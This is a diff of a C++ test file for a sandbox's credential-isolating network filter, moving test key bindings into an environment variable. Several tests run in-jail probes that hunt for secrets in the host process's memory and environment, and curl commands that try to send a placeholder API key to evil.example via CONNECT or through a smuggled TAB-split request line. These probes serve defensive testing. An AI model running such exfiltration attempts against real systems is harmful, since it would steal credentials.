@@ -1,7 +1,7 @@
 // Credentials outside the jail (issue 17), the network filter's side, in
 // real jails: a TLS server on the host's loopback with its own test CA
 // (trusted by the filter through --test-upstream-ca, never by the jail),
-// a credential bound to it with --test-bind; the jail holds only the
+// a credential bound to it through PJ_TEST_BIND; the jail holds only the
 // placeholder. The jail trusts the run's CA through the variables and the
 // bundle mounted over /etc/ssl/certs/ca-certificates.crt.
 #include <doctest/doctest.h>
@@ -138,7 +138,54 @@ std::string base64(const std::string& in) {
   return out;
 }
 
+// PJ_TEST_BIND with one NAME=PLACEHOLDER=VALUE@HOST:PORT line per binding:
+// an environment variable, never an argument (init shows its arguments).
+std::string bind_env(const std::vector<std::string>& lines) {
+  std::string v = "PJ_TEST_BIND=";
+  for (const auto& l : lines) v += l + "\n";
+  return v;
+}
+
+std::string hex(const std::string& in) {
+  static const char* d = "0123456789abcdef";
+  std::string out;
+  for (unsigned char c : in) {
+    out += d[c >> 4];
+    out += d[c & 15];
+  }
+  return out;
+}
+
 }  // namespace
+
+TEST_CASE("credentials: the jail's init shows no argument of pi-jail and its memory and environment are unreadable") {
+  Sandbox sb;
+  // A key in the host's environment (a real one reaches pi-jail this way)
+  // and a test binding: both are in the memory pi-jail had at the clone.
+  const std::string env_key = unique_secret("sk-ant-api03-HOSTENV");
+  const std::string real = unique_secret("sk-ant-api03-REAL"), ph = unique_secret("sk-ant-api03-PH");
+  const std::string marker = "--allow-read";  // on pi-jail's command line (Sandbox::jail)
+  const std::vector<std::string> env{"ANTHROPIC_API_KEY=" + env_key,
+                                     bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:1"})};
+  for (const auto& needle : {env_key, real, marker}) {
+    CAPTURE(needle);
+    auto o = sb.jail({probe(), "find-in", "1", hex(needle)}, {}, "", env);
+    CAPTURE(o.err);
+    CHECK(o.status == 0);
+    // The command line is blanked; environment and memory refused, not
+    // merely searched without a hit.
+    CHECK(o.out.find("cmdline absent\n") == 0);
+    CHECK(o.out.find("environ EACCES\n") != std::string::npos);
+    CHECK(o.out.find("mem EACCES\n") != std::string::npos);
+    CHECK(o.out.find("found") == std::string::npos);
+  }
+  // The jail's own processes are one trust domain: a sibling's memory is
+  // readable (README), so the jail holds only placeholders anyway.
+  auto o = sb.jail({"/bin/sh", "-c", "sleep 5 & " + probe() + " find-in $! " + hex("sleep") + "; kill $!"}, {}, "", env);
+  CAPTURE(o.err);
+  CHECK(o.out.find("cmdline found\n") == 0);
+  CHECK(o.out.find("mem found\n") != std::string::npos);
+}
 
 TEST_CASE("credentials: the jail's placeholder reaches the bound host as the real key; echoes come back as the placeholder") {
   Sandbox sb;
@@ -157,8 +204,9 @@ TEST_CASE("credentials: the jail's placeholder reaches the bound host as the rea
                         "/c && curl -sS -u 'user:" + ph + "' " + url + "/d && " +
                         "env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -H 'x-api-key: " + ph + "' " + url + "/e && " +
                         "curl -sS -H 'x-api-key: " + ph + "' --data-binary 'prompt mentions " + ph + "' " + url + "/f"},
-                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-bind", "TEST_KEY=" + ph + "=" + real +
-                    "@127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca, "--report", report, "--net-log", log});
+                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca, "--report", report,
+                    "--net-log", log},
+                   "", {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
   CAPTURE(o.err);
   CAPTURE(o.out);
   CHECK(o.status == 0);
@@ -214,8 +262,9 @@ TEST_CASE("credentials: a placeholder sent where it is not bound is refused (403
                         // And the bound one still works on the same run.
                         "curl -sS -H 'x-api-key: " + ph + "' " + url + "/ok"},
                    {"--allow-net", "127.0.0.1:" + server.port(), "--allow-net", "127.0.0.1:" + plain.port(),
-                    "--test-bind", "TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(), "--test-bind",
-                    "OTHER_KEY=" + ph2 + "=" + real2 + "@127.0.0.1:1", "--test-upstream-ca", certs.ca, "--report", report});
+                    "--test-upstream-ca", certs.ca, "--report", report},
+                   "", {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(),
+                                  "OTHER_KEY=" + ph2 + "=" + real2 + "@127.0.0.1:1"})});
   CAPTURE(o.err);
   CAPTURE(o.out);
   CHECK(o.out.find("403\n403\n403\n") == 0);
@@ -246,8 +295,8 @@ TEST_CASE("credentials: a server the filter cannot verify is refused (502), howe
                     "curl -s -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' https://127.0.0.1:" + server.port() +
                         "/; SSL_CERT_FILE=" + jail_ca + " curl -s -k -w '%{http_code}\\n' -H 'x-api-key: " + ph +
                         "' https://127.0.0.1:" + server.port() + "/"},
-                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-bind",
-                    "TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(), "--report", report});
+                   {"--allow-net", "127.0.0.1:" + server.port(), "--report", report}, "",
+                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
   CAPTURE(o.err);
   CAPTURE(o.out);
   CHECK(o.out.find("the server's certificate was not verified") != std::string::npos);
@@ -275,8 +324,8 @@ TEST_CASE("credentials: a compressed answer is refused (502); a WebSocket upgrad
   auto o = sb.jail({"/bin/sh", "-c",
                     "curl -s -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' https://127.0.0.1:" + server.port() +
                         "/gzip; node -e \"$0\"", js},
-                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-bind",
-                    "TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca});
+                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca}, "",
+                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
   CAPTURE(o.err);
   CAPTURE(o.out);
   CHECK(o.out.find("gzip-encoded body, which cannot be checked") != std::string::npos);
@@ -303,8 +352,8 @@ TEST_CASE("credentials: an absolute-form, CONNECT or TAB-split request line neve
                         "-X CONNECT --request-target evil.example:443 " + url + "/; " + code +
                         "-X \"$(printf 'POST\\t/api/oauth/claude_cli/create_api_key ')\" " + url + "/; " + code +
                         "--request-target https://127.0.0.1:" + server.port() + "/abs?q=1 " + url + "/"},
-                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-bind",
-                    "TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca});
+                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca}, "",
+                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
   CAPTURE(o.err);
   CAPTURE(o.out);
   CHECK(o.out == "403\n403\n403\n400\n200\n");
